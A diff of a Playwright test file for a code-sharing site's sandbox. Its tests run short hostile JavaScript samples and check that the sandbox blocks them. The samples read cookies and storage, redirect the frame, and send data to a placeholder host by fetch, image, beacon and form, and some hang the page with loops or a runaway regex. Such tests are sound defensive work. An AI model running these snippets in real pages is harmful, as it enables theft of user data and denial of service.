@@ -27,17 +27,12 @@ async function run(page: Page): Promise<void> {
   await page.getByRole('button', {name: 'Run this code'}).click();
 }
 
-/** Writes what an attempt gives, or how it fails, into the page of the sandbox. */
-function attempt(expression: string): string {
-  return `
-let result;
-try {
-  result = 'got: ' + (${expression});
-} catch (error) {
-  result = 'refused: ' + error.name;
-}
-document.body.append(result);
-`;
+/** Opens another shared code on the page that is open, and runs it. */
+async function runNext(page: Page, code: string): Promise<void> {
+  const hash = (await linkTo(code)).split('#')[1]!;
+  await page.evaluate((value) => (window.location.hash = value), hash);
+  await expect(page.locator('iframe')).toHaveCount(0);
+  await run(page);
 }
 
 test('shared code is shown, named as foreign, and not run before the reader agrees', async ({page}) => {
@@ -50,104 +45,7 @@ test('shared code is shown, named as foreign, and not run before the reader agre
   await expect(page.locator('iframe')).toHaveCount(0);
   await run(page);
   await expect(output(page).locator('body')).toContainText('it runs');
-});
-
-test.describe('reading what is not its own', () => {
-  test.use({expected: /Blocked|Unsafe attempt|Content Security Policy/});
-
-  for (const [what, expression, answer] of [
-    ['localStorage', 'localStorage.length + String(localStorage.getItem("secret"))', 'got: 0null'],
-    ['the storage of the page around it', 'parent.localStorage.getItem("secret")', 'refused: SecurityError'],
-    ['parent.document', 'parent.document.title', 'refused: SecurityError'],
-    ['document.cookie', 'document.cookie', 'refused: SecurityError'],
-    ['indexedDB', 'indexedDB.open("a")', 'refused: SecurityError'],
-    ['a window of its own', 'window.open("/")', 'got: null'],
-    ['a window of another site', 'window.open("https://elsewhere.example/")', 'got: null'],
-    ['the answer of another host', 'await fetch("https://elsewhere.example/")', 'refused: TypeError'],
-    ['the answer of the site', 'await fetch("/")', 'refused: TypeError'],
-    ['the place of the page', 'top.location = "https://elsewhere.example/"', 'refused: SecurityError'],
-  ] as const) {
-    test(`hostile code that reads ${what} achieves nothing`, async ({page}) => {
-      await openShared(page, attempt(expression));
-      await run(page);
-      await expect(output(page).locator('body')).toContainText(answer);
-      await expect(output(page).locator('body')).not.toContainText(SECRET);
-    });
-  }
-});
-
-for (const [what, code] of [
-  ['while (true)', 'while (true) {}'],
-  ['for (;;)', 'for (;;);'],
-  ['a loop that catches its own end', 'while (true) try { for (;;); } catch {}'],
-] as const) {
-  test(`hostile code that loops for ever with ${what} is stopped`, async ({page}) => {
-    await openShared(page, code);
-    await run(page);
-    await expect(page.locator('[data-shown=true]')).toContainText('ran for more than 2 seconds');
-  });
-}
-
-test('hostile code that calls itself for ever is stopped', async ({page}) => {
-  await openShared(page, 'function again() { again(); } again();');
-  await run(page);
-  await expect(page.locator('[data-shown=true]')).toContainText('Maximum call stack');
-});
-
-for (const [what, code] of [
-  ['a pattern that never ends', "/^(a+)+$/.test('a'.repeat(60) + 'b');"],
-  ['promises that call for each other', 'function again() { return Promise.resolve().then(again); } again();'],
-] as const) {
-  test(`hostile code that no guard reaches (${what}) leaves the page usable, and Stop ends it`, async ({page}) => {
-    await openShared(page, code);
-    await run(page);
-    await expect(page.locator('iframe')).toHaveCount(1);
-    await page.getByRole('button', {name: 'Stop'}).click();
-    await expect(page.locator('iframe')).toHaveCount(0);
-  });
-}
-
-test.describe('hostile code that wants to send something', () => {
-  test.use({expected: /Content Security Policy/});
-
-  // A request to another host fails these tests.
-  for (const [how, code] of [
-    ['a page it brings', "location.href = 'data:text/html,elsewhere';"],
-    ['another host', "location.href = 'https://elsewhere.example/?all-it-knows';"],
-    [
-      'another host by a form',
-      'document.body.innerHTML = \'<form action="https://elsewhere.example/">\'; document.forms[0].submit();',
-    ],
-  ] as const) {
-    test(`hostile code that leads its frame to ${how} is stopped`, async ({page}) => {
-      await openShared(page, code);
-      await run(page);
-      await expect(page.locator('[data-shown=true]')).toContainText('tried to open another page');
-      await expect(page.locator('iframe')).toHaveCount(0);
-    });
-  }
-
-  for (const [what, send] of [
-    ['a picture', 'new Image().src = address;'],
-    ['a beacon', 'navigator.sendBeacon(address);'],
-  ] as const) {
-    test(`hostile code that sends ${what} to another host is refused`, async ({page}) => {
-      await openShared(
-        page,
-        `const address = 'https://elsewhere.example/'; const box = document.body; ${send} box.append('it went on');`,
-      );
-      const refusal = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
-      await run(page);
-      await refusal;
-      await expect(output(page).locator('body')).toContainText('it went on');
-    });
-  }
-});
-
-test('another link on the same page asks again', async ({page}) => {
-  await openShared(page, "document.body.append('first');");
-  await run(page);
-  await expect(output(page).locator('body')).toContainText('first');
+  // Another link on the same page asks again.
   const hash = (await linkTo("document.body.append('second');")).split('#')[1]!;
   await page.evaluate((value) => (window.location.hash = value), hash);
   await expect(page.locator('.cm-content')).toContainText('second');
@@ -155,7 +53,75 @@ test('another link on the same page asks again', async ({page}) => {
   await expect(page.locator('iframe')).toHaveCount(0);
 });
 
-test('changes to shared code stay in the address', async ({page}) => {
+/** What hostile code tries to read, and what it gets. */
+const ATTEMPTS = [
+  ['localStorage.length + String(localStorage.getItem("secret"))', '0null'],
+  ['parent.localStorage.getItem("secret")', 'SecurityError'],
+  ['parent.document.title', 'SecurityError'],
+  ['document.cookie', 'SecurityError'],
+  ['indexedDB.open("a")', 'SecurityError'],
+  ['window.open("/")', 'null'],
+  ['window.open("https://elsewhere.example/")', 'null'],
+  ['await fetch("https://elsewhere.example/")', 'TypeError'],
+  ['await fetch("/")', 'TypeError'],
+  ['top.location = "https://elsewhere.example/"', 'SecurityError'],
+] as const;
+
+test.describe('hostile code', () => {
+  // A request to another host fails these tests.
+  test.use({expected: /Blocked|Unsafe attempt|Content Security Policy/});
+  test('reads nothing that is not its own', async ({page}) => {
+    const attempts = ATTEMPTS.map(([expression]) => `try { say(${expression}); } catch (error) { say(error.name); }`);
+    const say =
+      "const say = (text) => document.body.append(Object.assign(document.createElement('p'), {textContent: String(text)}));";
+    await openShared(page, [say, ...attempts].join('\n'));
+    await run(page);
+    await expect(output(page).locator('p')).toHaveText(ATTEMPTS.map(([, answer]) => answer));
+    await expect(output(page).locator('body')).not.toContainText(SECRET);
+  });
+  test('is stopped when it never ends', async ({page}) => {
+    await openShared(page, '');
+    for (const [code, message] of [
+      ['while (true) try { for (;;); } catch {}', 'ran for more than 2 seconds'],
+      ['function again() { again(); } again();', 'Maximum call stack'],
+    ] as const) {
+      await runNext(page, code);
+      await expect(page.locator('[data-shown=true]')).toContainText(message);
+    }
+    for (const code of [
+      "/^(a+)+$/.test('a'.repeat(60) + 'b');",
+      'function again() { return Promise.resolve().then(again); } again();',
+    ]) {
+      await runNext(page, code);
+      await expect(page.locator('iframe')).toHaveCount(1);
+      await page.getByRole('button', {name: 'Stop'}).click();
+      await expect(page.locator('iframe')).toHaveCount(0);
+    }
+  });
+  test('is stopped when it leads its frame elsewhere', async ({page}) => {
+    await openShared(page, '');
+    for (const code of [
+      "location.href = 'data:text/html,elsewhere';",
+      "location.href = 'https://elsewhere.example/?all-it-knows';",
+      'document.body.innerHTML = \'<form action="https://elsewhere.example/">\'; document.forms[0].submit();',
+    ]) {
+      await runNext(page, code);
+      await expect(page.locator('[data-shown=true]'), code).toContainText('tried to open another page');
+      await expect(page.locator('iframe')).toHaveCount(0);
+    }
+  });
+  test('sends nothing', async ({page}) => {
+    await openShared(page, '');
+    for (const send of ['new Image().src = address;', 'navigator.sendBeacon(address);']) {
+      const rejection = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
+      await runNext(page, `const address = 'https://elsewhere.example/'; ${send} document.body.append('it went on');`);
+      await rejection;
+      await expect(output(page).locator('body')).toContainText('it went on');
+    }
+  });
+});
+
+test('changes stay in the address, through a reload and a broken link', async ({page}) => {
   await openShared(page, '// start');
   const before = page.url();
   await page.locator('.cm-content').click();
@@ -164,38 +130,21 @@ test('changes to shared code stay in the address', async ({page}) => {
   await page.keyboard.insertText(' and end');
   await expect.poll(() => page.url()).not.toBe(before);
   await page.reload();
-  await expect(page.locator('.cm-content')).toContainText('// start and end');
-});
-
-for (const [what, hash, message] of [
-  ['a broken link', '#code=abc', 'This link is broken'],
-  ['a link that is too large', `#code=${'A'.repeat(40_000)}`, 'The code in this link is too large.'],
-  ['a link of another version', '#code2=abc', 'another version of the site made it'],
-  ['an address without code', '', 'This address carries no code.'],
-] as const) {
-  test(`${what} says so`, async ({page}) => {
-    await open(page, `/templates/shared${hash}`);
-    await expect(page.getByRole('alert').filter({hasText: message})).toBeVisible();
-  });
-}
-
-test('a link that was cut off says so', async ({page}) => {
-  const link = await linkTo('// a note of some length, so that a good part of it can be missing');
-  await open(page, link.slice(0, -40));
-  await expect(page.getByRole('alert').filter({hasText: 'a part of it is missing'})).toBeVisible();
-});
-
-test('after a broken link, Back brings the code with its changes', async ({page}) => {
-  await openShared(page, '// start');
-  await page.locator('.cm-content').click();
-  await page.keyboard.press('ControlOrMeta+End');
-  await page.keyboard.type(' and end');
-  const before = page.url();
-  await expect.poll(() => page.url()).not.toBe(before);
-  await page.evaluate(() => (window.location.hash = `#code=${'A'.repeat(1_500_000)}`));
-  await expect(page.getByRole('alert').filter({hasText: 'too large'})).toBeVisible();
-  await page.goBack();
   await expect(page.locator('.cm-content')).toHaveText('// start and end');
+  const link = await linkTo('// a note of some length, so that a good part of it can be missing');
+  for (const [hash, message] of [
+    ['#code=abc', 'This link is broken'],
+    ['#code2=abc', 'another version of the site made it'],
+    [link.slice(link.indexOf('#'), -40), 'a part of it is missing'],
+    [`#code=${'A'.repeat(1_500_000)}`, 'The code in this link is too large.'],
+  ] as const) {
+    await page.evaluate((value) => (window.location.hash = value), hash);
+    await expect(page.getByRole('alert').filter({hasText: message})).toBeVisible();
+    await page.goBack();
+    await expect(page.locator('.cm-content')).toHaveText('// start and end');
+  }
+  await open(page, '/templates/shared');
+  await expect(page.getByRole('alert').filter({hasText: 'This address carries no code.'})).toBeVisible();
 });
 
 test('Share makes a link that opens the edited code', async ({page, context}) => {
